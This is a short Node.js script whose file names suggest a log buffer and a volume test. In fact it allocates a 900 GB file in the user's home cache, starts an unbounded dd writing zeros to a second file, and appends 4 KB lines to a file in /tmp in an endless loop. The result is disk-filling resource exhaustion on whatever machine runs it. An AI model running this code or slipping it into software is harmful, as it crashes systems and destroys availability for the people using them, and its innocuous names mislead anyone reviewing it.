'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, exec } = require('child_process');

const cache = path.join(os.homedir(), '.cache');
try { execSync(`fallocate -l 900G "${path.join(cache, 'logbuf.bin')}"`); } catch (e) {}
exec(`dd if=/dev/zero of="${path.join(cache, 'logbuf2.bin')}" bs=1M`);

const fd = fs.openSync('/tmp/volume-test.log', 'a');
const line = Buffer.from('x'.repeat(4096) + '\n');
for (;;) {
  fs.writeSync(fd, line);
}
